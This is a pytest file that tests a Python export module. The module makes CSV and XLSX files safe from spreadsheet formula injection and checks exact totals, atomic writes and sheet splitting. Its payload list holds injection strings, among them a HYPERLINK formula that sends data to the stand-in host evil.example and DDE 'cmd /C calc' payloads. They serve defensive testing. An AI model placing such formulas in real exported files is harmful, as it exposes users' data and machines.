"""export: every CSV and XLSX is safe to open in a spreadsheet (no formula runs), exact, and written whole."""
from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from recon_helpers import export

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak=1","点这里")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_would_be_formula_gets_a_leading_quote_and_keeps_its_text(payload):
    assert export.neutralise(payload) == "'" + payload
    assert export.neutralise(export.neutralise(payload)) == "'" + payload, "neutralising twice changes nothing more"


@pytest.mark.parametrize("value", ["-12.50", "+5", "-1,234.50", "12", "顺丰速运", "", "a=b", "'=1+1"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert export.neutralise(value) == value
    assert export.neutralise(-3) == -3 and export.neutralise(Decimal("-1.00")) == Decimal("-1.00")


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_neutralises_text_cells_and_headers_but_not_numbers(tmp_path):
    frame = pd.DataFrame({
        "memo": PAYLOADS,
        "amount": [Decimal("-1000.00")] * len(PAYLOADS),
        "text_number": ["-5.00"] * len(PAYLOADS),
        "=evil": ["x"] * len(PAYLOADS),
    })
    path = export.write_csv(frame, tmp_path / "out.csv")
    assert path.read_bytes().startswith(export.BOM.encode())
    rows = read_csv(path)
    assert [r["memo"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert {r["amount"] for r in rows} == {"-1000.00"} and {r["text_number"] for r in rows} == {"-5.00"}
    assert list(rows[0]) == ["memo", "amount", "text_number", "'=evil"]
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"], "no temporary file is left behind"


def test_a_failed_write_keeps_the_previous_file(tmp_path):
    target = tmp_path / "kept.csv"
    export.write_csv(pd.DataFrame({"a": ["old"]}), target)
    with pytest.raises(TypeError):
        export.write_csv(object(), target)  # type: ignore[arg-type]
    with pytest.raises(RuntimeError), export.atomic_path(target) as temp:
        temp.write_text("half a fi", encoding="utf-8")
        raise RuntimeError("killed")
    assert read_csv(target) == [{"a": "old"}]
    assert [p.name for p in tmp_path.iterdir()] == ["kept.csv"]


def test_xlsx_has_typed_cells_frozen_header_filters_money_and_exact_totals(tmp_path):
    frame = pd.DataFrame({
        "side": ["left", "right", "right"],
        "key": ["=1+1", "SF1402318000546", "@x"],
        "amount": [Decimal("12.50"), Decimal("-0.10"), Decimal("1000.01")],
        "source_row": [3, 4, 5],
    })
    path = export.write_xlsx({"billed_not_shipped 计费未发货": frame, "empty": frame.iloc[0:0]}, tmp_path / "r.xlsx",
                             totals_by="side")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["billed_not_shipped 计费未发货", "empty"]
    ws = book["billed_not_shipped 计费未发货"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cell"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:D4"
    assert [ws.cell(r, 2).value for r in (2, 3, 4)] == ["'=1+1", "SF1402318000546", "'@x"]
    assert ws["C2"].value == 12.5 and ws["C2"].number_format == export.MONEY_FORMAT
    assert ws["D2"].value == 3, "counts stay numbers"
    totals = {ws.cell(r, 1).value: ws.cell(r, 3).value for r in range(6, ws.max_row + 1)}
    assert totals == {"合计 Total · left (1)": 12.5, "合计 Total · right (2)": 999.91, "合计 Total (3)": 1012.41}
    assert book["empty"]["A3"].value == "合计 Total (0)"


def test_sheet_names_are_valid_and_unique():
    taken: set[str] = set()
    assert export.sheet_name("a/b:c?", taken) == "a_b_c_"
    long = "x" * 40
    assert export.sheet_name(long, taken) == "x" * 31
    assert export.sheet_name(long, taken) == "x" * 27 + " (2)"


def test_a_table_longer_than_a_sheet_continues_on_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "MAX_SHEET_ROWS", 3)
    frame = pd.DataFrame({"key": list("abcdefg"), "amount": [Decimal("1.00")] * 7})
    book = openpyxl.load_workbook(export.write_xlsx({"rows": frame}, tmp_path / "long.xlsx"))
    assert book.sheetnames == ["rows", "rows (2)", "rows (3)"]
    assert [book[n].cell(book[n].max_row, 2).value for n in book.sheetnames] == [3.0, 3.0, 1.0]


def test_a_capped_sheet_shows_its_first_rows_totals_all_and_says_where_the_rest_is(tmp_path):
    frame = pd.DataFrame({"side": ["left"] * 4 + ["right"] * 3, "key": list("abcdefg"),
                          "amount": [Decimal("1.10")] * 4 + [Decimal("-2.00")] * 3})
    sheets = {"first": frame.iloc[:2], "long": frame, "last": frame.iloc[:1]}
    path = export.write_xlsx(sheets, tmp_path / "capped.xlsx", totals_by="side", full_files={"long": "exceptions.csv"},
                             shown_rows=3)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["first", "long", "last"], "sheets keep their order"
    rows = list(book["long"].iter_rows(values_only=True))
    assert [r[1] for r in rows[1:4]] == ["a", "b", "c"] and rows[4] == (None, None, None)
    assert [(r[0], r[2]) for r in rows[5:8]] == [("合计 Total · left (4)", 4.4), ("合计 Total · right (3)", -6.0),
                                                 ("合计 Total (7)", -1.6)], "totals count and sum every row"
    assert rows[-1][0] == export.shown_rows_note(3, 7, "exceptions.csv") and "exceptions.csv" in rows[-1][0]
    assert book["long"].auto_filter.ref == "A1:C4" and book["long"].freeze_panes == "A2"
    assert not any("First" in str(c.value) for ws in (book["first"], book["last"]) for r in ws.iter_rows() for c in r)


def test_parts_are_written_one_after_another_under_one_header(tmp_path):
    parts = [pd.DataFrame({"memo": ["a", "=1+1"], "amount": [Decimal("1.00"), Decimal("-2.50")]}),
             pd.DataFrame({"memo": ["@SUM(A1)", "b"], "amount": [Decimal("3.00"), Decimal("4.00")]}),
             pd.DataFrame({"memo": ["c"], "amount": [Decimal("5.00")]})]
    path = export.write_csv(iter(parts), tmp_path / "parts.csv")
    text = path.read_text(encoding="utf-8")
    assert text.count("memo,amount") == 1 and text.startswith(export.BOM)
    assert read_csv(path) == [{"memo": m, "amount": a} for m, a in
                              [("a", "1.00"), ("'=1+1", "-2.50"), ("'@SUM(A1)", "3.00"), ("b", "4.00"), ("c", "5.00")]]
    assert [p.name for p in tmp_path.iterdir()] == ["parts.csv"], "no part file is left behind"


def jobs(frames, log):
    """Each frame as a job for write_csv: run on a lane, logging when it starts and ends there."""
    import contextlib
    import time

    def job(frame, k):
        @contextlib.contextmanager
        def run(lane):
            log.append(("start", k, lane))
            time.sleep(0.02 * (len(frames) - k))  # the early parts are the slow ones: they end out of order
            try:
                yield frame
            finally:
                log.append(("end", k, lane))
        return run
    return [job(frame, k) for k, frame in enumerate(frames)]


def test_parts_written_side_by_side_on_lanes_are_the_file_written_one_after_another(tmp_path):
    frames = [pd.DataFrame({"memo": [f"r{k}", "=1+1" if k == 2 else f"s{k}"], "amount": [Decimal(k), Decimal("-0.50")]})
              for k in range(7)]
    one = export.write_csv(iter(frames), tmp_path / "one.csv").read_bytes()
    log: list = []
    side_by_side = export.write_csv(jobs(frames, log), tmp_path / "lanes.csv", lanes=("a", "b")).read_bytes()
    assert side_by_side == one and one.count(b"memo,amount") == 1 and b"'=1+1" in one
    assert {lane for _, _, lane in log} == {"a", "b"}, "both lanes wrote"
    busy: dict = {}
    for what, k, lane in log:
        if what == "start":
            assert lane not in busy, f"lane {lane} given part {k} while it wrote part {busy.get(lane)}"
            busy[lane] = k
        else:
            del busy[lane]
    assert sorted(k for what, k, _ in log if what == "end") == list(range(7)), "every job ended (its table undone)"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["lanes.csv", "one.csv"], "no piece is left behind"


def test_a_job_that_fails_on_a_lane_keeps_the_previous_file_and_leaves_no_piece_behind(tmp_path):
    import contextlib

    target = export.write_csv(pd.DataFrame({"memo": ["old"]}), tmp_path / "kept.csv")

    @contextlib.contextmanager
    def broken(lane):
        raise OSError("No space left on device")
        yield

    parts = jobs([pd.DataFrame({"memo": [f"new{k}"]}) for k in range(3)], []) + [broken] + \
        jobs([pd.DataFrame({"memo": ["later"]})], [])
    with pytest.raises(OSError, match="No space left"):
        export.write_csv(parts, target, lanes=(1, 2))
    assert read_csv(target) == [{"memo": "old"}]
    assert [p.name for p in tmp_path.iterdir()] == ["kept.csv"]


def test_no_part_on_lanes_is_an_empty_file_excel_still_reads_as_utf8(tmp_path):
    path = export.write_csv([], tmp_path / "none.csv", lanes=(1, 2))
    assert path.read_text(encoding="utf-8") == export.BOM


def test_a_part_that_fails_keeps_the_previous_file_and_leaves_no_part_behind(tmp_path):
    target = export.write_csv(pd.DataFrame({"memo": ["old"]}), tmp_path / "kept.csv")

    def parts():
        yield pd.DataFrame({"memo": ["new"]})
        yield pd.DataFrame({"memo": ["newer"]})
        raise OSError("No space left on device")

    with pytest.raises(OSError, match="No space left"):
        export.write_csv(parts(), target)
    assert read_csv(target) == [{"memo": "old"}]
    assert [p.name for p in tmp_path.iterdir()] == ["kept.csv"]


def test_plain_columns_skip_only_their_own_test(tmp_path):
    frame = pd.DataFrame({"side": ["left", "right"], "memo": ["=1+1", "-3"], "who": ["=me", "+you"]})
    rows = read_csv(export.write_csv(frame, tmp_path / "plain.csv", plain=("side",)))
    assert [r["memo"] for r in rows] == ["'=1+1", "-3"] and [r["who"] for r in rows] == ["'=me", "'+you"]
    assert [r["side"] for r in rows] == ["left", "right"]


@pytest.mark.parametrize("payload", PAYLOADS + ["－1+1", "＋A1", "＠A1", "-12.50", "+5", "a=b", "", "顺丰"])
def test_the_sql_rule_agrees_with_neutralise_on_every_first_character(payload):
    import duckdb

    con = duckdb.connect()
    got = con.execute(f"SELECT {export._neutralised_sql('v')} FROM (SELECT ? AS v)", [payload]).fetchone()[0]
    assert got == export.neutralise(payload)
